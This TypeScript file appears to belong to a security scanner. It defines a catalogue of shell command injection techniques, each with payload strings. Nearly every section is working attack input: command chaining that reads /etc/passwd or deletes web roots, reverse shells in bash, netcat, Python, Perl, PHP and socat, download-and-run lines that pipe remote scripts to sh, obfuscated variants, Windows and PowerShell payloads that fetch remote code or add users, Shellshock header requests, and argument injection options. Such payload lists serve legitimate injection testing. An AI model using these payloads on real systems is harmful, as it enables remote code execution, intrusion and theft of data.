// biome-ignore-all lint/suspicious/noTemplateCurlyInString: variables of the shell
import { getMessage } from '../message.ts';
import { dataPlaces } from '../places.ts';
import { attackerAddress, attackerHost, type TechniqueFamily } from '../technique.ts';

export const shellTechniques: TechniqueFamily = {
  about: 'a command line: a host to test, the name of a file, an option',
  places: [
    ...dataPlaces,
    'query name',
    'file name',
    'User-Agent',
    'X-Forwarded-For',
    'X-Api-Version',
    'basic credentials',
    'raw body',
  ],
  fields: ['host', 'ip', 'file', 'cmd', 'domain', 'name', 'target'],
  techniques: {
    'command behind an operator': {
      does: 'Ends a command and adds another one',
      needs: 'a Unix shell',
      values: (random) => [
        '; id',
        '| cat /etc/passwd',
        '&& whoami',
        `|| ping -c 3 ${attackerHost(random)}`,
        '\nid',
        '127.0.0.1; uname -a',
        '8.8.8.8 & cat /etc/hosts',
        'report.pdf; rm -rf /var/www',
        `example.org|nc ${attackerAddress(random)} 4444`,
        'x;ls -la /',
        '1 | ps aux',
        '%0a/usr/bin/id',
        ';netstat -an;',
        '|env',
      ],
    },
    substitution: {
      does: 'Has the shell put the output of a command into the value',
      needs: 'a Unix shell',
      values: (random) => [
        '$(id)',
        '`whoami`',
        `$(curl http://${attackerHost(random)}/a)`,
        'x`sleep 6`',
        '"$(cat /etc/passwd)"',
        'photo$(touch /tmp/q).png',
        `$(nslookup $(whoami).${attackerHost(random)})`,
        '<(cat /etc/hostname)',
        '$((1+1));$(uname -r)',
      ],
    },
    'out of quotes': {
      does: 'Ends a quoted argument and adds a command',
      needs: 'a Unix shell',
      values: () => [
        "'; cat /etc/passwd; '",
        '"; id; "',
        '" && whoami && echo "',
        "'|id|'",
        "a'$(id)'b",
        '";cat /etc/shadow;#',
        "'&& sleep 4 && '",
        "');system id;#'; id #",
      ],
    },
    'reverse shell': {
      does: 'Connects a shell to a host of the attacker',
      needs: 'one of the programs',
      values: (random) => {
        const host = attackerAddress(random);
        return [
          `bash -i >& /dev/tcp/${host}/4444 0>&1`,
          `;nc -e /bin/sh ${host} 9001`,
          `$(python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("${host}",4444));os.dup2(s.fileno(),0);pty.spawn("sh")')`,
          `|perl -e 'use Socket;$i="${host}";socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton($i)));exec("sh -i");'`,
          `;rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc ${host} 4444 >/tmp/f`,
          `&& php -r '$s=fsockopen("${host}",4444);exec("sh <&3 >&3 2>&3");'`,
          `;ruby -rsocket -e 'exit if fork;c=TCPSocket.new("${host}",4444)'`,
          `|socat tcp-connect:${host}:4444 exec:/bin/sh`,
          `0<&196;exec 196<>/dev/tcp/${host}/443; sh <&196 >&196`,
        ];
      },
    },
    'download and run': {
      does: 'Fetches a program and starts it',
      needs: 'one of the programs',
      values: (random) => {
        const host = attackerHost(random);
        return [
          `;wget http://${host}/x.sh -O- | sh`,
          `|curl -s ${host}/i|bash`,
          `;cd /tmp;wget http://${host}/m;chmod 777 m;./m`,
          `$(busybox tftp -g -r b -l /tmp/b ${attackerAddress(random)}; sh /tmp/b)`,
          `&& curl http://${host}/p.py | python3 -`,
          `;fetch -o /tmp/a http://${host}/a && sh /tmp/a`,
          `;(wget -qO- ${host}||curl -s ${host})|sh`,
        ];
      },
    },
    disguised: {
      does: 'Writes a command with variables, patterns, braces and encodings',
      needs: 'a Unix shell',
      unless: ['${IFS}', 'quotes in words', 'backslashes in words'],
      values: () => [
        ';cat${IFS}/etc/passwd',
        ";c''at /etc/pa''sswd",
        ';{cat,/etc/passwd}',
        ';/???/c?t /???/p??swd',
        ';w\\ho\\am\\i',
        ";$'\\x69\\x64'",
        ';cat$IFS$9/etc/passwd',
        ';cat</etc/hostname',
        ';echo aWQ=|base64 -d|sh',
        ';${PATH:0:1}bin${PATH:0:1}id',
        ";$(rev<<<'dwssap/cte/ tac')",
        ';a=c;b=at;$a$b /etc/hosts',
        '|wh$@oami',
        ';bash<<<$(xxd -r -p<<<6964)',
        ";eval $(printf '\\151\\144')",
      ],
    },
    Windows: {
      does: 'Runs a command of Windows',
      needs: 'Windows',
      unless: ['${IFS}', 'quotes in words', 'backslashes in words'],
      values: (random) => [
        '& whoami /all',
        '| dir C:\\',
        '&& type C:\\Windows\\win.ini',
        '& net user eve P4ss /add',
        'cmd /c "ipconfig /all"',
        '& ping -n 6 127.0.0.1',
        `&certutil -urlcache -split -f http://${attackerHost(random)}/a.exe a.exe`,
        '| w^h^o^a^m^i',
        '& tasklist & systeminfo',
        '&&%COMSPEC% /c dir',
        `| mshta http://${attackerHost(random)}/a.hta`,
        `& regsvr32 /s /n /u /i:http://${attackerHost(random)}/a.sct scrobj.dll`,
        '& wmic process call create calc.exe',
        '& reg query HKLM\\SAM',
      ],
    },
    PowerShell: {
      does: 'Runs PowerShell with code, in base64 or from another host',
      needs: 'Windows',
      unless: ['${IFS}', 'quotes in words', 'backslashes in words'],
      values: (random) => [
        `powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('http://${attackerHost(random)}/a')"`,
        '& powershell -enc dwBoAG8AYQBtAGkA',
        ';Invoke-Expression (Get-Content C:\\x.txt)',
        '|powershell.exe -ExecutionPolicy Bypass -File \\\\198.51.100.7\\s\\a.ps1',
        '"; iwr http://evil.example/a -OutFile a.exe; Start-Process a.exe; "',
        '$(Get-Process | Out-String)',
      ],
    },
    'function in a header': {
      does: 'Has bash define a function from a header and run what follows it (CVE-2014-6271)',
      needs: 'CGI with old bash',
      unless: ['${IFS}', 'quotes in words', 'backslashes in words'],
      requests: (random) => [
        getMessage('/cgi-bin/status', ['User-Agent', '() { :;}; /bin/cat /etc/passwd']),
        getMessage('/cgi-bin/test.sh', [
          'Referer',
          `() { x;}; wget http://${attackerHost(random)}/`,
        ]),
        getMessage('/cgi-bin/a.cgi', ['Cookie', '() { _; } >_[$($())] { id; }']),
        getMessage('/', [
          'X-Client',
          '() { ignored; }; echo Content-Type: text/plain; echo; /usr/bin/id',
        ]),
      ],
    },
    time: {
      does: 'Waits, so that the response time shows that the command ran',
      needs: 'a Unix shell or Windows',
      unless: ['quotes in words', 'backslashes in words'],
      values: (random) => {
        const seconds = 4 + random.below(9);
        return [
          `;sleep ${seconds}`,
          `$(sleep ${seconds})`,
          `|ping -c ${seconds} 127.0.0.1`,
          `& timeout /t ${seconds}`,
          `x||sleep ${seconds}||`,
          `\`sleep ${seconds}\``,
        ];
      },
    },
    'out of band': {
      does: 'Contacts a host of the attacker, so that the request shows that the command ran',
      needs: 'one of the programs',
      values: (random) => {
        const host = attackerHost(random);
        return [
          `;nslookup ${host}`,
          `;curl http://${host}/$(whoami)`,
          `|dig ${host}`,
          `$(wget -q ${host})`,
          `& nslookup ${host}`,
          `;host \`hostname\`.${host}`,
        ];
      },
    },
    'option of a program': {
      does: 'Is an option that makes a program run another one',
      needs: 'git, ssh, tar, curl, sendmail, find',
      fields: ['url', 'repository', 'branch', 'host', 'file'],
      unless: ['${IFS}', 'quotes in words', 'backslashes in words'],
      values: () => [
        '-oProxyCommand=id',
        '--upload-pack=touch /tmp/q',
        '--checkpoint-action=exec=sh x.sh',
        'ext::sh -c id%20>%20/tmp/q',
        '-exec sh -c id ;',
        'ssh://-oProxyCommand=id/repo',
        '--use-compress-program=id',
        '--config=core.sshCommand=id',
      ],
    },
  },
};
